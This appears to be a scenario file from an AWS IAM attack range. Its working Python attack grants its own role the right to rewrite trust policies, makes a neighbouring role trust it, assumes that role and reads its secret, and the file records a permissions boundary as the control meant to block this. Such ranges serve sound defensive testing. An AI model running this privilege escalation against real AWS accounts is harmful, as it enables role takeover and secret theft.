"""A neighbour's role, made to trust one's own identity."""

from __future__ import annotations

import json

from iamrange.core import aws_controls
from iamrange.core import frameworks as fw
from iamrange.core.scenario import Asset, AssetKind, Foothold, Loot, Material, Part, Scenario, Taken
from scenarios import workloads

REWRITE = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Action": ["iam:UpdateAssumeRolePolicy", "sts:AssumeRole"],
                "Resource": "*",
            }
        ],
    }
)


def attack(foothold: Taken) -> Loot:
    """Grant oneself the rewriting of trust, rewrite the neighbour's, and become the neighbour."""
    own, target = foothold.knows["victim.aws_role_arn"], foothold.knows["target.aws_role_arn"]
    session = workloads.aws_session(foothold.aws_session)
    iam = session.client("iam")
    iam.put_role_policy(
        RoleName=own.rsplit("/", 1)[1], PolicyName="rewrites", PolicyDocument=REWRITE
    )
    trust = {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": {"AWS": own}, "Action": "sts:AssumeRole"}],
    }
    iam.update_assume_role_policy(
        RoleName=target.rsplit("/", 1)[1], PolicyDocument=json.dumps(trust)
    )
    become = session.client("sts").assume_role(RoleArn=target, RoleSessionName="rewritten")
    secret = workloads.read_aws_secret(
        workloads.session_of(become["Credentials"]), foothold.knows["target.aws_secret_arn"]
    )
    return Loot((secret,))


SCENARIO = Scenario(
    claim="an identity that may write policies cannot rewrite whom a role trusts",
    blocked_by=(aws_controls.PERMISSIONS_BOUNDARY,),
    foothold=Foothold(Part.DEPLOY_BOT, Material.AWS_SESSION, taken_from="process memory"),
    asset=Asset(AssetKind.AWS_SECRET, Part.HR_ASSISTANT),
    knows=("victim.aws_role_arn", "target.aws_role_arn", "target.aws_secret_arn"),
    legitimate=workloads.DEPLOYS_WITHIN_THE_BOUNDARY,
    attack=attack,
    maps_to=(fw.NHI5, fw.ASI03, fw.T1098_003),
    lesson="A trust policy is a grant like any other: who writes it grants the whole role.",
)
